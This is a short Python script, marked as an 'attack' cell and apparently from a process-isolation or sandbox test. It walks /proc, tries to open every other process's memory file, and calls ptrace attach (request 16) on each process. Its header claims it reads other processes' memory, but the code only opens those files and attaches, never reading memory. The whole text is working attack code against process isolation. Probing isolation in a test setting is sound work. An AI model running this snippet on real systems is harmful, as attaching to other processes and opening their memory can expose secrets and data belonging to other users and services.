# Reads other processes' memory through /proc and ptrace.
# %% attack
import os
import ctypes

found = []
for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) != os.getpid():
        try:
            open(f"/proc/{name}/mem", "rb").close()
            found.append(name)
        except OSError:
            pass
        ctypes.CDLL(None).ptrace(16, int(name), 0, 0)
